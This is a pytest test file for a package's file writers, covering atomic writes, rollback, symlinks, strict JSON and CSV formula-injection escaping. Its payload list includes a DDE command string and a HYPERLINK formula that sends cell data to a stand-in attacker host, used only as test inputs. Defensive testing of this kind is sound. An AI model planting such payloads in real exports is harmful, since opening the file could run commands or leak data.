import json
import os
import stat

import pytest
from hypothesis import given, strategies as st

from lineup.errors import UsageError
from lineup.io.writers import to_json, write_files


def test_files_appear_whole_with_ordinary_permissions(tmp_path):
    paths = write_files(tmp_path / "new" / "dir", {"a.json": to_json({"x": 1}), "b.bin": b"\x00\x01"})
    assert [p.name for p in paths] == ["a.json", "b.bin"]
    assert json.loads(paths[0].read_text()) == {"x": 1}
    mode = stat.S_IMODE(os.stat(paths[0]).st_mode)
    assert mode & 0o044  # readable by group/others under the usual umask
    assert not [p for p in paths[0].parent.iterdir() if p.name.startswith(".")]


def test_failure_leaves_previous_files_untouched(tmp_path, monkeypatch):
    write_files(tmp_path, {"a.txt": "old"})

    def fail(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(UsageError, match="cannot write"):
        write_files(tmp_path, {"a.txt": "new", "b.txt": "new"})
    assert (tmp_path / "a.txt").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]  # temp files cleaned up


def test_output_path_that_is_a_file(tmp_path):
    (tmp_path / "f").write_text("x")
    with pytest.raises(UsageError, match="cannot create"):
        write_files(tmp_path / "f", {"a.txt": "y"})


def test_json_is_strict():
    assert to_json({"v": float("inf")}) == '{\n  "v": null\n}\n'


def test_second_file_failing_rolls_back_the_first(tmp_path, monkeypatch):
    write_files(tmp_path, {"a.txt": "old a"})
    real_replace, calls = os.replace, []

    def flaky(src, dst):
        calls.append(dst)
        if str(dst).endswith("b.txt") and len(calls) == 2:
            raise OSError(5, "Input/output error")
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", flaky)
    with pytest.raises(UsageError):
        write_files(tmp_path, {"a.txt": "new a", "b.txt": "new b"})
    assert (tmp_path / "a.txt").read_text() == "old a"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]


def test_symlink_is_written_through_and_special_files_refused(tmp_path):
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    write_files(tmp_path, {"link.csv": "new"})
    assert (tmp_path / "link.csv").is_symlink() and (tmp_path / "real.csv").read_text() == "new"
    (tmp_path / "sub").mkdir()
    with pytest.raises(UsageError, match="a directory"):
        write_files(tmp_path, {"sub": "x"})
    with pytest.raises(UsageError, match="not a regular file"):
        write_files("/dev", {"null": "x"})


# --------------------------------------------------------------------------- CSV formula injection

FORMULA_PAYLOADS = ["=1+2", "-2+3", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
                    "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_text_cells_that_start_a_formula_are_neutralised(payload):
    from lineup.io.writers import csv_cell

    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-2.5, -3, 0, None, True, float("nan"), "alice", "a=b", "[/bold]", ""])
def test_numbers_and_plain_text_are_unchanged(value):
    from lineup.io.writers import csv_cell

    assert csv_cell(value) is value


def test_frame_csv_neutralises_text_and_headers_not_negative_numbers():
    import csv
    import io

    import pandas as pd

    from lineup.io.writers import frame_csv

    frame = pd.DataFrame({"strategy": ["-2+3", "=1+2", "ok"], "spend": [-2.5, 1.0, 2.0],
                          "influencers": pd.array([-1, None, 3], dtype="Int64"), "-col": ["x", "y", "z"]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows[0] == ["strategy", "spend", "influencers", "'-col"]
    assert [r[0] for r in rows[1:]] == ["'-2+3", "'=1+2", "ok"]
    assert [r[1] for r in rows[1:]] == ["-2.5", "1.0", "2.0"]  # numbers stay numbers
    assert [r[2] for r in rows[1:]] == ["-1", "", "3"]


def test_csv_text_formats_floats_and_neutralises_text_once():
    from lineup.io.writers import csv_text

    assert csv_text(["id", "fee"], [["=1+2", -2.5], ["'q", float("nan")]], "%.6g") == "id,fee\n'=1+2,-2.5\n''q,\n"


@given(st.text())
def test_csv_uncell_undoes_csv_cell(text):
    from lineup.io.writers import csv_cell, csv_uncell

    assert csv_uncell(csv_cell(text)) == text
    assert not csv_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
